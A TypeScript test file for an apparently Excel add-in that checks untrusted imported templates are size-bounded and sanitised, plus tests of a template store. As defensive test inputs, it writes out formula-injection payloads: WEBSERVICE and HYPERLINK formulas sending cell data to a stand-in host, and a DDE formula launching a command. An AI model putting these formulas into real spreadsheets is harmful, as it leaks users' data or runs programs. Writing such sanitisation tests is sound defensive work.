// A template from elsewhere is untrusted: bounded, and with nothing that could spend or reach outside.
import fc from 'fast-check';
import { readOwnTemplate, sheetName, type OwnTemplate } from '../../../src/excel/templates/own/ownTemplate';
import { createOwnTemplates } from '../../../src/excel/templates/own/ownTemplates';
import { toTemplate } from '../../../src/excel/templates/own/toTemplate';
import { isSpillwayFormula } from '../../../src/excel/workbook/spillwayFormula';

const template: OwnTemplate = {
  spillway: 'template',
  version: 1,
  title: 'My prices',
  sheet: 'Prices',
  rows: [
    ['Product', null, 'Name', 'Price'],
    ['iphone', { f: '=LEN(A2)' }, 'Sample', 5],
  ],
  widths: [20, 10, 30, 12],
  formats: [{ range: 'D2:D9', format: '0.00' }],
  looks: [{ range: 'A1:D1', bold: true, fill: '#dff0f2' }],
  live: [{ at: 'C1', formula: '=RURETAIL.SEARCH(A2,3)', samples: 'C1:D2' }],
};

const read = (changes: object) => readOwnTemplate(JSON.stringify({ ...template, ...changes }));

test('reads back what was written', () => {
  expect(read({})).toEqual({ template, left: [] });
});

test.each([
  ['another kind of file', { spillway: 'filter sets' }],
  ['a later version', { version: 2 }],
  ['no title', { title: '' }],
  ['too many rows', { rows: Array.from({ length: 400 }, () => [1]) }],
  ['too many columns', { rows: [Array.from({ length: 100 }, () => 1)] }],
  ['a colour that is none', { looks: [{ range: 'A1', fill: 'url(https://x.test)' }] }],
  ['a range of another sheet', { formats: [{ range: 'Other!A1', format: '0' }] }],
  ['a width beyond reason', { widths: [100_000] }],
  ['too much text', { sentence: 'x'.repeat(300_000) }],
])('%s is not read', (_, changes) => {
  expect(read(changes)).toBeUndefined();
});

test.each([
  ['=WEBSERVICE("https://x.test/?"&A1)', 'uses WEBSERVICE'],
  ['=HYPERLINK("https://x.test/?"&A1)', 'uses HYPERLINK'],
  ["=cmd|'/c calc'!A1", 'refers to another sheet'],
  ["='[Book2.xlsx]S'!A1", 'refers to another sheet'],
  ['=Secrets!A1', 'refers to another sheet'],
  ['=RURETAIL.SEARCH("x")', 'calls Spillway among the samples'],
  ['=SUM(DEV.STAYS.SEARCH("x"))', 'calls Spillway among the samples'],
])('a cell with %s is left out', (f, why) => {
  const { template: kept, left } = read({ rows: [[{ f }]] })!;
  expect(kept.rows).toEqual([[null]]);
  expect(left).toEqual([`A1 ${why}`]);
});

test.each(['=RURETAIL.SEARCH(WEBSERVICE("x"))', '=RURETAIL.SEARCH(Other!A1)', '=RURETAIL.SEARCH(NOW())'])(
  '%s is not filled',
  (formula) => {
    const { template: kept, left } = read({ live: [{ at: 'C1', formula, samples: 'C1:D2' }] })!;
    expect([kept.live, left]).toEqual([[], [expect.stringMatching(/^C1 /)]]);
  },
);

test('a table of samples lies where its formula is', () => {
  expect(read({ live: [{ ...template.live[0], samples: 'A1:D9' }] })?.template.live).toEqual([]);
});

test('whatever a file holds, nothing in it calls Spillway before it is filled, and texts stay texts', () => {
  const piece = fc.constantFrom(
    '=',
    'RURETAIL.SEARCH(',
    '"x"',
    ')',
    'A1',
    '+',
    'SUM(',
    ' ',
    "'",
    '_xldudf_STAYS_SEARCH(',
    '{sheet}!',
  );
  const written = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(written, written, (text, f) => {
      const own = read({ rows: [[text, { f }]] });
      for (const cell of toTemplate('own', own!.template).sheets[0]!.blocks.flatMap(({ rows }) =>
        rows.flat(),
      )) {
        expect(isSpillwayFormula(cell)).toBe(false);
        if (typeof cell === 'string' && cell.startsWith('=')) expect(cell).toBe(f);
      }
    }),
  );
});

test('is printed as it was, without the sentence beside it', () => {
  const sheetOf = (given: object) =>
    toTemplate('own', read({ rows: [['a', 'b', 'c']], ...given })!.template).sheets[0]!;
  expect(sheetOf({ landscape: true })).toMatchObject({ printArea: 'A:C', landscape: true, status: 'E1' });
  expect(sheetOf({}).landscape).toBeUndefined();
});

test('names of sheets are made valid', () => {
  expect(sheetName("'A/B: [x]*?'")).toBe('A B   x');
  expect(sheetName('///')).toBe('Template');
});

describe('the store', () => {
  function texts(delay = () => Promise.resolve()) {
    const values = new Map<string, string>();
    return {
      values,
      get: async (key: string) => {
        await delay();
        return values.get(key);
      },
      set: async (key: string, value: string) => {
        await delay();
        values.set(key, value);
      },
    };
  }
  function locks() {
    let last: Promise<unknown> = Promise.resolve();
    return {
      run: <T>(_: string, work: () => Promise<T>): Promise<T> => {
        const next = last.then(work, work);
        last = next.catch(() => undefined);
        return next;
      },
    };
  }
  let ids = 0;
  const newId = () => `id-${(ids += 1)}`;

  test('keeps, renames, removes and restores; names do not collide', async () => {
    const own = createOwnTemplates(texts(), locks(), newId);
    const first = await own.add(template);
    const second = await own.add(template);
    expect([first, second].map((each) => each.template.title)).toEqual(['My prices', 'My prices 2']);
    await own.rename(second.id, 'Others');
    const removed = await own.remove(first.id);
    expect((await own.list()).map((each) => each.template.title)).toEqual(['Others']);
    await own.restore(removed!);
    await own.restore(removed!);
    expect((await own.list()).map((each) => each.template.title)).toEqual(['Others', 'My prices']);
    await expect(own.rename(first.id, '  ')).rejects.toThrow('needs a name');
  });

  test('two windows that save at once keep both', async () => {
    const shared = texts(() => new Promise((resolve) => setImmediate(resolve)));
    const lock = locks();
    const [one, two] = [createOwnTemplates(shared, lock, newId), createOwnTemplates(shared, lock, newId)];
    await Promise.all([one.add(template), two.add({ ...template, title: 'Second' })]);
    expect((await one.list()).map((each) => each.template.title).sort()).toEqual(['My prices', 'Second']);
  });

  test('leaves alone what a newer version wrote', async () => {
    const store = texts();
    const own = createOwnTemplates(store, undefined, newId);
    const newer = { id: 'newer', template: { ...template, version: 2 } };
    store.values.set('templates', JSON.stringify([newer]));
    await own.add(template);
    expect((await own.list()).map((each) => each.template.title)).toEqual(['My prices']);
    expect(JSON.parse(store.values.get('templates')!)).toContainEqual(newer);
    store.values.set('templates', '{"v":2}');
    await expect(own.add(template)).rejects.toThrow('newer version');
    expect(store.values.get('templates')).toBe('{"v":2}');
  });

  test('is bounded, and reads nothing that is damaged', async () => {
    const store = texts();
    const own = createOwnTemplates(store, undefined, newId);
    for (let count = 0; count < 20; count += 1) await own.add(template);
    await expect(own.add(template)).rejects.toThrow('You can keep 20 templates');
    const large = {
      ...template,
      rows: [['x'.repeat(32_000)], ...Array.from({ length: 7 }, () => ['y'.repeat(32_000)])],
    };
    await expect(createOwnTemplates(texts(), undefined, newId).add(large)).rejects.toThrow('too large');
    store.values.set('templates', '{"not": "a list"}');
    expect(await own.list()).toEqual([]);
    store.values.set('templates', JSON.stringify([null, 5, { id: 'x' }, { id: 'y', template }]));
    expect((await own.list()).map(({ id }) => id)).toEqual(['y']);
  });
});
